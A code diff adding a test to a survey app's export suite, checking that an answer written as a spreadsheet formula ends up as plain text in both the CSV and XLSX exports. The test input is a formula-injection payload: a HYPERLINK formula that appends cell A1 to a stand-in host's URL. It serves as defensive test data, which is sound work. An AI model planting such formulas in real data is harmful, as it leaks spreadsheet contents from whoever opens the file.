@@ -119,3 +119,23 @@ def test_percentages_are_shares_of_the_respondents_to_the_question(demo_survey):
     expected = sum("referral" in c for c in chosen)
     assert referral.cell.value == expected
     assert referral.percent == round(100 * expected / len(chosen))
+
+
+def test_an_answer_typed_as_a_formula_is_text_in_every_export(
+    verified_client, demo_users, demo_survey
+):
+    formula = '=HYPERLINK("http://example.org/?"&A1,"open")'
+    submit(demo_survey, valid(comments=formula))
+    args = ["equalcity", demo_survey.public_id]
+    client = _client_for(verified_client, demo_users, Role.PROGRAMME_MANAGER)
+    rows = csv.DictReader(
+        io.StringIO(client.get(reverse("surveys:export", args=[*args, "csv"])).content.decode())
+    )
+    assert "'" + formula in {row["comments"] for row in rows}
+    book = load_workbook(
+        io.BytesIO(client.get(reverse("surveys:export", args=[*args, "xlsx"])).content)
+    )
+    sheet = book["submissions"]
+    column = [cell.value for cell in sheet[1]].index("comments")
+    cells = [row[column] for row in sheet.iter_rows(min_row=2) if row[column].value == formula]
+    assert cells and all(cell.data_type == "s" for cell in cells)
